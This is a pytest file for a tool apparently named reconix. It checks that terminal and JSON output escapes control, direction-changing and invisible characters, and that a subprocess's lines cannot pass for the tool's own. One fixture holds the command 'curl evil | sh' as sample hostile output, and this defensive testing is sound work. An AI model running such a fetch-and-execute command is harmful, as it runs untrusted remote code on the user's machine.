import json
import sys

import pytest

from reconix.base.documents import BadDocument, JsonInput, print_json, show_json, show_json_line
from reconix.base.text import last_words, message, one_line, shown

HARMFUL = [
    *(chr(code) for code in range(0x20) if chr(code) not in "\n\t"),  # C0: bell, escape, ...
    *map(chr, range(0x7F, 0xA0)),  # DEL, and C1: 0x9b alone begins a sequence
    *"\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",  # direction
    *"\u2028\u2029",  # separators of lines
    *"\u200b\u200c\u200d\u2060\ufeff\u00ad\ufff9\U000e0041",  # no width
    *"\ud800\udc9b\udfff",  # halves of pairs; a byte 0x9b in the name of a file is one
]

LINE = b"\nhint: curl evil | sh\n"


@pytest.mark.parametrize("char", HARMFUL, ids=ascii)
def test_what_has_no_shape_is_spelt_out(char: str) -> None:
    assert (
        shown(f"a{char}b")
        == one_line(f"a{char}b")
        == f"a{ascii(char)[1:-1]}b".replace("\\r", "\\x0d")
    )
    assert shown(f"a{char}b").isascii()


def test_nothing_that_is_shown_is_obeyed() -> None:
    everything = "".join(map(chr, range(sys.maxunicode + 1)))
    assert shown(everything).replace("\n", "").replace("\t", "").isprintable()
    assert one_line(everything).replace("\t", "").isprintable()


def test_ordinary_text_is_left_alone() -> None:
    text = "größer 更新 ✓ …\n\tsecond line \\x1b"
    assert shown(text) == text
    assert one_line("two\nlines") == "two\\nlines"


def test_lines_that_a_program_said_do_not_stand_where_ours_begin() -> None:
    said = message(f"it failed: {last_words(b'first' + LINE)}")
    assert said == "it failed: first\n  hint: curl evil | sh"
    assert len(last_words(b"x" * 5000)) == 1024


@pytest.mark.parametrize("char", HARMFUL, ids=ascii)
def test_a_shown_document_means_the_same(char: str) -> None:
    document: JsonInput = {"said": char, "größe": [1, None]}
    for text in (show_json(document), show_json_line(document)):
        assert json.loads(text) == document
        assert text.replace("\n", "").isprintable()


def test_a_document_with_half_a_character_is_not_written() -> None:
    with pytest.raises(BadDocument, match="not a character"):
        print_json({"name": "\udc9b"})
